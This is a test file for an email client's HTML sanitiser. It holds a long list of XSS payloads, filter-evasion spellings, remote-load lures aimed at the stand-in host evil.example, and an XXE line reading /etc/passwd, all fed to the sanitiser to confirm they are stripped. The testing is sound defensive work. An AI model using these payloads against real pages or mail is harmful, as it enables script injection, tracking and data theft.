import { describe, expect, test } from 'bun:test';
import { buildMessage } from '../../test/build.ts';
import { busyMs } from '../../test/busy-ms.ts';
import { presentMessage, sanitizeMailHtml } from './present-message.ts';

describe('a hostile mail', () => {
  const KEPT = 'p div span br hr a img b strong i em u s small font table tr td th'.split(' ');
  const KEPT_ATTRIBUTES = 'href title target rel src data-remote-src alt style width height align'.split(' ');
  /** An element that never ends takes the rest of the mail with it, in a browser too. */
  const SWALLOWS = /^<(math><mtext|frameset|select|img src="x`|svg><animate)|srcdoc/;
  const vectors = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example)}</style>',
    '<div style="background:url(https://evil.example/p.gif)">x</div>',
    '<div style="background-image:u\\72l(https://evil.example)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<table background="https://evil.example/p.gif"><tr><td background="https://evil.example">x</td></tr></table>',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.gif"></video>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<img srcset="https://evil.example/a.png 1x" src="//evil.example/b.png">',
    '<input type=image src="https://evil.example/x.png">',
    // Spelled so that a filter does not see it.
    '<ScRiPt>alert(1)</sCrIpT>',
    '<script/x>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '<script\n>alert(1)</script\n>',
    '<img src=x:x onerror\n=alert(1)>',
    '<img/src/onerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<p onclick=alert(1) onmouseover="alert(1)" OnFocus=\'alert(1)\' autofocus tabindex=1>x</p>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example" ping="https://evil.example/ping">x</a>',
    '<a href="/api/auth/sign-out">x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    // Elements that run, load or swallow what follows.
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<template><script>alert(1)</script></template>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<details open ontoggle=alert(1)>x</details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<body onload=alert(1) background="https://evil.example/p.gif">x</body>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<applet code="evil.class"></applet><portal src="https://evil.example"></portal>',
    '<audio src="https://evil.example/a.mp3" autoplay onerror=alert(1)></audio>',
    '<picture><source srcset="https://evil.example/p.gif"><img src="https://evil.example/q.gif"></picture>',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/png;base64,AAAA" onload=alert(1)>',
    '<img data-remote-src="javascript:alert(1)" src="cid:x" alt="x">',
    '<img lowsrc="https://evil.example/p.gif" dynsrc="https://evil.example/p.avi" alt="x">',
    '<isindex action="javascript:alert(1)" type=image>',
    '<button form=x formaction="https://evil.example">x</button>',
    '<dialog open><form method=dialog action="https://evil.example"></form></dialog>',
    '<p is="evil-element" slot=x part=y contenteditable>x</p>',
    '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
    '<?xml-stylesheet href="https://evil.example/x.css"?>',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    // Style that loads or covers.
    '<p style="background:URL(https://evil.example/p.gif)">x</p>',
    '<p style="color:red;background-image:url(\'https://evil.example/p.gif\')">x</p>',
    '<p style="list-style:url(https://evil.example/p.gif);cursor:url(https://evil.example/c.cur)">x</p>',
    '<p style="content:url(https://evil.example/p.gif);border-image:url(https://evil.example/b.gif)">x</p>',
    '<p style="font-family:x;src:url(https://evil.example/f.woff)">x</p>',
    '<p style="background:image-set(\'https://evil.example/p.gif\' 1x)">x</p>',
    '<p style="color:red/*;*/;behavior:url(https://evil.example/x.htc)">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    '<p style="position:absolute;z-index:9999;inset:0">x</p>',
    '<p style="width:1px;}body{background:url(https://evil.example)">x</p>',
    '<p style="color:var(--x);--x:url(https://evil.example)">x</p>',
    '<p style="@import \'https://evil.example/x.css\';color:red">x</p>',
    '<p style="background:\\75 rl(https://evil.example/p.gif)">x</p>',
  ];

  test.each(vectors)('runs nothing and loads nothing: %s', (vector) => {
    const html = sanitizeMailHtml(`<p>before</p>${vector}<p>after</p>`);
    // Every tag that is left, as a browser reads it: the sanitiser escapes what is text.
    const tags = html.match(/<[^>]*>/g) ?? [];
    for (const tag of tags) {
      const [, name = '', attributes = ''] = /^<\/?([a-z0-9]+)((?:\s[a-z-]+="[^"]*")*)\s*\/?>$/.exec(tag) ?? [];
      expect([tag, KEPT.includes(name)]).toEqual([tag, true]);
      for (const [, attribute = '', value = ''] of attributes.matchAll(/\s([a-z-]+)="([^"]*)"/g)) {
        expect([tag, KEPT_ATTRIBUTES.includes(attribute)]).toEqual([tag, true]);
        if (attribute === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
        if (attribute === 'data-remote-src') expect(value).toMatch(/^https?:\/\//);
        if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/);
        if (attribute === 'style') expect(value).not.toMatch(/[(\\@]|position|z-index|inset|behavior|--/i);
      }
    }
    expect(html).toContain('before');
    if (!SWALLOWS.test(vector)) expect(html).toContain('after');
  });
});

test('remote pictures wait until they are asked for, pictures inside the mail show', () => {
  const html = sanitizeMailHtml('<img src="https://cdn.example/a.png" alt="house"><img src="data:image/png;base64,iVBORw0KGgo=">');
  expect(html).toContain('data-remote-src="https://cdn.example/a.png"');
  expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
});

test('links open elsewhere and tell nobody where they came from', () => {
  const html = sanitizeMailHtml(
    '<a href="https://larkinvale.example/h" target="_top" rel="opener">house</a> <a href="mailto:ana@example.com">Ana</a>',
  );
  expect(html).toContain('<a href="https://larkinvale.example/h" target="_blank" rel="noopener noreferrer nofollow">');
  expect(html).toContain('href="mailto:ana@example.com"');
});

test('keeps what lays out an honest mail', () => {
  const html =
    '<table width="600" align="center"><tr><td style="padding:8px 12px;color:#333333;font-size:14px">Hello <b>Ana</b></td></tr></table>';
  expect(sanitizeMailHtml(html)).toBe(html);
});

test('a message leaves without what is ours alone', () => {
  const view = presentMessage(buildMessage({ html: '<p>Hi<script>alert(1)</script></p>' }));
  expect(view.html).toBe('<p>Hi</p>');
  expect(view).not.toHaveProperty('identity');
  expect(view).not.toHaveProperty('_id');
  expect(presentMessage(buildMessage({ html: null })).html).toBeNull();
});

test('a mail made to be slow is shown cut, and soon', () => {
  const began = busyMs();
  for (const part of ['<div>', '<b><i>', '<', '<a ', '&#x', '<!--', '<p style="color:red">', '<table><tr><td>', '<img src=http://a/>']) {
    const html = sanitizeMailHtml(`<p>hello</p>${part.repeat(2_000_000 / part.length)}`);
    expect(html).toStartWith('<p>hello</p>');
    expect(html.length).toBeLessThan(2_000_000);
  }
  expect(busyMs() - began).toBeLessThan(10_000);
  expect(sanitizeMailHtml(`${'<div>'.repeat(5000)}deep`).match(/<div>/g)?.length ?? 0).toBeLessThanOrEqual(100);
}, 60_000);

test('no link of a mail leads into Openhouse itself', () => {
  expect(sanitizeMailHtml('<a href="/settings">a</a><a href="?x">b</a><a href="//crm.example/x">c</a>')).not.toContain('href');
});

test('colours that are not understood where hidden words are looked for are not shown either', () => {
  const kept = '<p style="color:lightyellow">a</p><font face="Arial" color="#FEFEFE">b</font><td bgcolor="navy">c</td>';
  expect(sanitizeMailHtml(kept)).toBe(kept);
  const dropped = '<p style="color:canvas">a</p><font color="fffff">b</font><font color="#ffff">c</font><td bgcolor="chucknorris">d</td>';
  expect(sanitizeMailHtml(dropped)).toBe('<p>a</p><font>b</font><font>c</font><td>d</td>');
});
